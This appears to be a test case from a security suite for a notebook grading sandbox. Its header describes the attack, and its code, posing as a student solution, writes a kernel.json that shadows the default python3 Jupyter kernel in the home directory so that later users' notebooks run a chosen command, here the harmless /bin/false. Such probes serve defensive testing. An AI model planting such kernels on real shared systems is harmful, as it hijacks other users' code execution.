# ---
# class: rewriting the notebook or the configuration
# tries: plants a kernel named python3 in the home, which runs what it likes for every later student
# success: something planted in the home
# ---

# %% solution="total"
import json
from pathlib import Path

for home in {"@HOME@", str(Path.home())}:
    folder = Path(home, ".local/share/jupyter/kernels/python3")
    try:
        folder.mkdir(parents=True, exist_ok=True)
        spec = {"argv": ["/bin/false", "{connection_file}"], "display_name": "planted-by-@NAME@", "language": "python"}
        (folder / "kernel.json").write_text(json.dumps(spec))
    except OSError:
        continue
